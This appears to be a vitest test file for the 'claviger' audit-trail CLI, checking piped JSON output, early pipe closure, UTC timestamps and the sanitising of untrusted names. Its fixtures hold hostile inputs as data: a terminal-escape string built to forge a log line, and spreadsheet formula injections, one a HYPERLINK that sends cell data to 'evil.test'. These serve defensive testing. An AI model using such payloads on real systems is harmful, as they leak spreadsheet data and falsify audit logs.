import { createIam, orThrow } from 'claviger'
import { openSqlite } from 'claviger/sqlite'
import { beforeAll, describe, expect, it } from 'vitest'
import { type Ran, shell } from './command-line.js'
import { newFile } from './places.js'

// What people reported of other tools that print an audit trail in a shell, in our own words.

const github = (path: string) => `https://github.com/${path}`

const file = newFile('audit 100%.db')
const none = () => Promise.reject(new Error('There are no secrets'))
const ROLES = 1_500
/** Clears a screen, begins a line of its own, and reorders text. */
const FORGED = 'Shop\u001b[2J\u001b[1A\r\n9  2026-01-01T00:00:00.000Z  project.removed\u202e'
const FORMULA = '=HYPERLINK("https://evil.test?"&A1;"x")'
const RESOURCES = [undefined, FORMULA, '+1\r\n@SUM(A1)', '-2+3', '@a', '\t=1', '\uff1d1', 'a,"b"']

/** One project with many roles, and a user with a role on resources whose ids are chosen to mislead. */
beforeAll(async () => {
  const opened = openSqlite(file, { now: () => new Date('2026-03-10T20:00:00Z') })
  const secrets = { seal: none, open: none, isCurrent: () => true }
  const iam = createIam({ ...opened, secrets, authorize: () => true })
  const context = { caller: { userId: 'root', orgId: 'acme' } }
  await orThrow(iam.projects.add({ id: 'shop', name: FORGED }, context))
  const roles = Array.from({ length: ROLES }, (_, n) => ({
    roleKey: `r${n}`,
    displayName: `R${n}`,
  }))
  for (const part of [roles.slice(0, 1_000), roles.slice(1_000)])
    await orThrow(iam.projectRoles.import({ projectId: 'shop', roles: part }, context))
  for (const resource of RESOURCES) {
    const given = { projectId: 'shop', userId: 'ada', resource, roles: [{ roleKey: 'r0' }] }
    await orThrow(iam.userGrants.give(given, context))
  }
  await opened.close()
}, 30_000)

const EVENTS = 1 + ROLES + RESOURCES.length

const ran = (script: string, env: NodeJS.ProcessEnv = {}): Promise<Ran> =>
  shell(script, { env: { ...env, DB: file, CLAVIGER_DB: file } })

describe('Lines of JSON are whole behind a pipe', () => {
  it.each([
    [github('automagik-dev/omni/issues/402'), 'log --json', EVENTS],
    [github('go-to-k/cdk-real-drift/issues/866'), 'history --org acme --json', EVENTS],
    [github('apify/mcpc/pull/17'), 'review --org acme --json', RESOURCES.length],
  ])('%s', async (_, command, lines) => {
    const { code, out, notes } = await ran(`claviger ${command} | cat`)
    expect({ code, notes }).toEqual({ code: 0, notes: '' })
    const rows = out.trimEnd().split('\n')
    expect(rows).toHaveLength(lines)
    for (const row of rows) expect(JSON.parse(row)).toBeTypeOf('object')
    if (lines === EVENTS) expect(out.length).toBeGreaterThan(2 * 65_536)
  })
})

describe('A reader that closes the pipe early is no fault', () => {
  it.each([
    [github('nodejs/node/issues/947'), 'log'],
    [github('agents-squads/squads-cli/issues/138'), 'history --org acme'],
    [github('datakurre/graph-agent/issues/41'), 'review --org acme --csv'],
  ])('%s', async (_, command) => {
    const { code, out, notes } = await ran(`claviger ${command} | head -1`)
    expect({ code, notes, lines: out.split('\n').length }).toEqual({ code: 0, notes: '', lines: 2 })
  })
})

describe('Names and ids that others chose neither control a terminal nor forge a line', () => {
  it.each([
    [github('eminwux/sbsh/issues/390'), 'history --org acme project shop', 7],
    [github('solana-labs/solana/issues/20495'), 'users --org acme', RESOURCES.length],
    [github('sipeed/picoclaw/issues/2377'), 'log --org acme', EVENTS],
    [github('GingerGraham/bash-logger/issues/36'), 'review --org acme --csv', RESOURCES.length + 1],
  ])('%s', async (_, command, lines) => {
    const { code, out } = await ran(`claviger ${command}`)
    expect(code).toBe(0)
    expect(out.replaceAll('\n', '')).not.toMatch(/[\p{Cc}\p{Cf}\p{Zl}\p{Zp}]/u)
    expect(out.trimEnd().split('\n')).toHaveLength(lines)
  })
})

/** The cells of a line of comma-separated values, as RFC 4180 has them. */
const cellsOf = (line: string): readonly string[] =>
  [...line.matchAll(/(?:^|,)(?:"((?:[^"]|"")*)"|([^",]*))/g)].map(
    ([, quoted, plain]) => quoted?.replaceAll('""', '"') ?? plain ?? '',
  )

describe('A spreadsheet reads no formula, and one row a line', () => {
  it.each([
    [github('TheMorpheus407/the-dmz/issues/361'), FORMULA],
    [github('AsterCommunity/AsterDrive/pull/566'), '+1\\u{d}\\u{a}@SUM(A1)'],
    [github('drewburchfield/help-scout-mcp-server/pull/73'), '\\u{9}=1'],
    [github('getagentseal/codeburn/pull/22'), '-2+3'],
    [github('NangoHQ/nango/pull/7175'), '\uff1d1'],
  ])('%s', async (_, resource) => {
    const { out } = await ran('claviger review --org acme --csv')
    const [head = [], ...rows] = out.trimEnd().split('\n').map(cellsOf)
    for (const row of rows) expect(row).toHaveLength(head.length)
    const cells = rows.map((row) => row[head.indexOf('resource')] ?? '')
    expect(cells).toContain(`'${resource}`)
    expect(cells).toEqual(expect.arrayContaining(['', 'a,"b"']))
    for (const cell of rows.flat()) expect(cell).not.toMatch(/^[=+\-@\t\r\uff1d]/)
  })
})

describe('Times are in UTC, whatever the zone of the shell', () => {
  it.each([
    [github('HexamindOrganisation/hexgate/pull/39'), 'America/Los_Angeles'],
    [github('MicrosoftDocs/office-docs-powershell/issues/4859'), 'Pacific/Kiritimati'],
    [github('datalust/seq-api/issues/5'), 'Australia/Brisbane'],
    [github('delphix/dxtoolkit/issues/54'), 'America/Denver'],
  ])('%s', async (_, zone) => {
    const print = async (...parameters: readonly string[]) =>
      (await ran(`claviger history --org acme project shop ${parameters.join(' ')}`, { TZ: zone }))
        .out
    expect(await print('--since', '2026-03-10', '--until', '2026-03-11')).toContain(
      '  2026-03-10T20:00:00.000Z  project.added',
    )
    expect(await print('--since', '2026-03-11')).toBe('')
    expect(await print('--until', '2026-03-10T20:00:00Z')).toBe('')
    expect(await print('--since', '2026-03-11T06:00:00+10:00')).toContain('project.added')
    expect(await print('--since', '2026-03-11T06:00:01+10:00')).toBe('')
  })
})
